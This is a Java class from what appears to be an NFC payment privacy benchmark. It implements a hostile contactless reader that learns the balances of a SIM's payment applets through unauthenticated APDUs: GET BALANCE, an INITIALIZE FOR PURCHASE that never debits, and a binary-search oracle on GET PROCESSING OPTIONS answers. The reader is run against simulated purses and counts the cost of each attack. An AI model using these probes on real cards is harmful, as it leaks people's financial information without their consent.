package nfcpay.bench.privacy;

import java.util.ArrayList;
import java.util.HashMap;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import nfcpay.bench.air.AirTimeModel;
import nfcpay.bench.air.BitRate;

/**
 * A reader in the field that wants every card's balance and keeps to the commands any reader may send
 * (no key, no PIN, nothing the card refuses to a stranger). Three ways, each counted in APDU exchanges:
 * <ul>
 * <li>{@link #byGetBalance}: SELECT PPSE for the directory, then SELECT and GET BALANCE per AID
 *     (JR/T 0025 asks for no authentication);</li>
 * <li>{@link #byInitialize}: the same with INITIALIZE FOR PURCHASE for 1 fen, whose answer starts with
 *     the balance; the reader never sends DEBIT, so nothing moves ({@code 9401}: the balance is 0);</li>
 * <li>{@link #byGpoSearch}: SELECT PPSE + GET PROCESSING OPTIONS pairs. The answer names the card the
 *     policy picks for the amount, or {@code 9401} when none covers it, never a balance. Binary search of
 *     the amount at which the pick changes gives the balance of each card the policy ever picks; a card it
 *     never picks stays hidden. Under ANY the pick is random: each amount is asked until the card shows
 *     up or {@link #anyRepeats} answers without it say it does not cover.</li>
 * </ul>
 * The search is bounded by {@link #ceilingMinor}, the largest balance the reader assumes a card may hold
 * (the simulated purses' maximum balance, 50,000.00).
 */
public final class HostileReader {

    /** The channel to the card: one APDU out, its answer (data and SW) back. */
    @FunctionalInterface
    public interface Card {
        byte[] transmit(byte[] command);
    }

    /** What the reader learned of one card, and after how many exchanges of the attack. */
    public record Learned(String aid, long balanceMinor, int afterExchanges) {}

    /** One attack on one SIM: what it learned, in order, and what it cost. */
    public record Outcome(List<Learned> learned, int exchanges, long bytes, double airMillis106, boolean available) {}

    private static final HexFormat HEX = HexFormat.of().withUpperCase();
    private static final byte[] SELECT_PPSE = HEX.parseHex("00A404000E325041592E5359532E444446303100");
    private static final byte[] GET_BALANCE = HEX.parseHex("805C000204");
    private static final byte[] TERMINAL_ID = HEX.parseHex("0E5700000001");
    private static final int SW_OK = 0x9000;
    private static final int SW_INSUFFICIENT_FUNDS = 0x9401;

    private final Card card;
    private final AirTimeModel model;
    private final long ceilingMinor;
    private final int anyRepeats;
    private int exchanges;
    private long bytes;
    private double airMicros;
    /** What each GPO answer proved: the card picked at an amount holds at least that much. */
    private final Map<String, Long> atLeast = new HashMap<>();
    /** The smallest amount that no card covered (9401). */
    private long noneCovers = Long.MAX_VALUE;
    private int lastSw;

    /**
     * @param ceilingMinor the largest balance the search considers
     * @param anyRepeats how many answers without the card make the reader conclude, under ANY, that it does not cover
     */
    public HostileReader(Card card, AirTimeModel model, long ceilingMinor, int anyRepeats) {
        this.card = card;
        this.model = model;
        this.ceilingMinor = ceilingMinor;
        this.anyRepeats = anyRepeats;
    }

    /** SELECT PPSE, then SELECT and GET BALANCE for every AID of the directory. */
    public Outcome byGetBalance() {
        start();
        List<Learned> learned = new ArrayList<>();
        for (String aid : directory()) {
            select(aid);
            byte[] r = send(GET_BALANCE);
            if (sw(r) == SW_OK) {
                learned.add(new Learned(aid, u32(r, 0), exchanges));
            }
        }
        return outcome(learned, true);
    }

    /** SELECT PPSE, then SELECT and INITIALIZE FOR PURCHASE of 1 fen for every AID; never a DEBIT. */
    public Outcome byInitialize() {
        start();
        List<Learned> learned = new ArrayList<>();
        for (String aid : directory()) {
            select(aid);
            byte[] r = send(concat(HEX.parseHex("805001020B01"), u32(1), TERMINAL_ID, new byte[] {0x0F}));
            if (sw(r) == SW_OK) {
                learned.add(new Learned(aid, u32(r, 0), exchanges));
            } else if (sw(r) == SW_INSUFFICIENT_FUNDS) {
                learned.add(new Learned(aid, 0, exchanges)); // less than 1 fen
            }
        }
        return outcome(learned, true);
    }

    /**
     * SELECT PPSE + GPO pairs. Deterministic policies: from the lowest amount up, find who is picked just
     * above what is known, then the largest amount at which that card is still picked: its balance.
     * {@code random} (ANY): each card of the directory in turn, each amount asked repeatedly.
     */
    public Outcome byGpoSearch(boolean random) {
        start();
        Optional<String> first = probe(1);
        if (first.isEmpty() && lastSw != SW_INSUFFICIENT_FUNDS) {
            return outcome(List.of(), false); // a legacy PPSE answers 6D00: no oracle
        }
        return outcome(random ? searchEachCard() : searchUpward(first), true);
    }

    private List<Learned> searchUpward(Optional<String> first) {
        List<Learned> learned = new ArrayList<>();
        Optional<String> next = first; // the card picked just above what is known
        long known = 0; // every amount up to here is explained
        while (next.isPresent()) {
            long lo = known + 1;
            long hi = ceilingMinor;
            while (lo < hi) {
                long mid = lo + (hi - lo + 1) / 2;
                if (next.equals(probe(mid))) {
                    lo = mid;
                } else {
                    hi = mid - 1;
                }
            }
            learned.add(new Learned(next.get(), lo, exchanges));
            known = lo;
            if (known >= ceilingMinor) {
                break;
            }
            next = probe(known + 1); // empty: no card holds more than what is known
        }
        return learned;
    }

    private List<Learned> searchEachCard() {
        List<Learned> learned = new ArrayList<>();
        for (String aid : directory()) {
            long lo = 0;
            long hi = Math.min(ceilingMinor, noneCovers - 1);
            while (lo < hi) {
                long mid = lo + (hi - lo + 1) / 2;
                if (covers(aid, mid)) {
                    lo = mid;
                } else {
                    hi = mid - 1;
                }
            }
            if (lo > 0) {
                learned.add(new Learned(aid, lo, exchanges));
            }
        }
        return learned;
    }

    private boolean covers(String aid, long amount) {
        for (int i = 0; i < anyRepeats; i++) {
            if (atLeast.getOrDefault(aid, 0L) >= amount) {
                return true;
            }
            if (amount >= noneCovers) {
                return false;
            }
            probe(amount);
        }
        return atLeast.getOrDefault(aid, 0L) >= amount;
    }

    /** SELECT PPSE and GPO for {@code amount}: the AID the card picked, empty on any refusal. */
    private Optional<String> probe(long amount) {
        send(SELECT_PPSE); // a 61xx answer is not fetched: the GPO does not need the rest
        byte[] gpo = concat(HEX.parseHex("80A800000F830D"), n12(amount), HEX.parseHex("015600"),
                HEX.parseHex("0A0B0C0D"), new byte[] {0x00});
        byte[] r = send(gpo);
        lastSw = sw(r);
        if (lastSw == SW_INSUFFICIENT_FUNDS) {
            noneCovers = Math.min(noneCovers, amount);
        }
        if (lastSw != SW_OK) {
            return Optional.empty();
        }
        Optional<String> aid = Tlv.first(r, 0, r.length - 2, 0x4F).map(HEX::formatHex);
        aid.ifPresent(a -> atLeast.merge(a, amount, Math::max));
        return aid;
    }

    /** SELECT PPSE (with GET RESPONSE for a long directory); the AIDs in its order. */
    private List<String> directory() {
        byte[] r = send(SELECT_PPSE);
        byte[] fci = new byte[0];
        while (true) {
            fci = concat(fci, java.util.Arrays.copyOf(r, r.length - 2));
            if ((sw(r) & 0xFF00) != 0x6100) {
                break;
            }
            r = send(new byte[] {0x00, (byte) 0xC0, 0x00, 0x00, (byte) (sw(r) & 0xFF)});
        }
        List<String> aids = new ArrayList<>();
        Tlv.all(fci, 0, fci.length, 0x4F).forEach(v -> aids.add(HEX.formatHex(v)));
        return aids;
    }

    private void select(String aid) {
        byte[] a = HEX.parseHex(aid);
        send(concat(new byte[] {0x00, (byte) 0xA4, 0x04, 0x00, (byte) a.length}, a, new byte[] {0x00}));
    }

    private byte[] send(byte[] command) {
        byte[] r = card.transmit(command);
        exchanges++;
        bytes += command.length + r.length;
        airMicros += model.exchangeMicros(command.length, r.length, BitRate.KBPS_106);
        return r;
    }

    private void start() {
        exchanges = 0;
        bytes = 0;
        airMicros = 0;
        atLeast.clear();
        noneCovers = Long.MAX_VALUE;
    }

    private Outcome outcome(List<Learned> learned, boolean available) {
        Map<String, Learned> byAid = new LinkedHashMap<>();
        learned.forEach(l -> byAid.put(l.aid(), l));
        return new Outcome(List.copyOf(byAid.values()), exchanges, bytes, airMicros / 1000, available);
    }

    private static int sw(byte[] r) {
        return (r[r.length - 2] & 0xFF) << 8 | r[r.length - 1] & 0xFF;
    }

    private static long u32(byte[] b, int off) {
        return (b[off] & 0xFFL) << 24 | (b[off + 1] & 0xFFL) << 16 | (b[off + 2] & 0xFFL) << 8 | b[off + 3] & 0xFFL;
    }

    private static byte[] u32(long v) {
        return new byte[] {(byte) (v >>> 24), (byte) (v >>> 16), (byte) (v >>> 8), (byte) v};
    }

    /** Amount, n12: 6 bytes of packed BCD. */
    private static byte[] n12(long minor) {
        return HEX.parseHex(String.format("%012d", minor));
    }

    private static byte[] concat(byte[]... parts) {
        int n = 0;
        for (byte[] p : parts) {
            n += p.length;
        }
        byte[] out = new byte[n];
        int at = 0;
        for (byte[] p : parts) {
            System.arraycopy(p, 0, out, at, p.length);
            at += p.length;
        }
        return out;
    }

    /** Just enough BER-TLV for the PPSE FCI and the GPO answer: 1- and 2-byte tags, 1- to 3-byte lengths. */
    static final class Tlv {
        private Tlv() {}

        static Optional<byte[]> first(byte[] b, int from, int to, int wanted) {
            List<byte[]> found = all(b, from, to, wanted);
            return found.isEmpty() ? Optional.empty() : Optional.of(found.get(0));
        }

        /** Every primitive value of tag {@code wanted}, depth first, inside constructed tags. */
        static List<byte[]> all(byte[] b, int from, int to, int wanted) {
            List<byte[]> out = new ArrayList<>();
            int i = from;
            while (i < to) {
                int first = b[i] & 0xFF;
                int tag = first;
                i++;
                if ((first & 0x1F) == 0x1F && i < to) {
                    tag = tag << 8 | b[i++] & 0xFF;
                }
                if (i >= to) {
                    break;
                }
                int len = b[i++] & 0xFF;
                if (len == 0x81 && i < to) {
                    len = b[i++] & 0xFF;
                } else if (len == 0x82 && i + 1 < to) {
                    len = (b[i] & 0xFF) << 8 | b[i + 1] & 0xFF;
                    i += 2;
                }
                int end = Math.min(to, i + len);
                if (tag == wanted) {
                    out.add(java.util.Arrays.copyOfRange(b, i, end));
                } else if ((first & 0x20) != 0) {
                    out.addAll(all(b, i, end, wanted));
                }
                i = end;
            }
            return out;
        }
    }
}
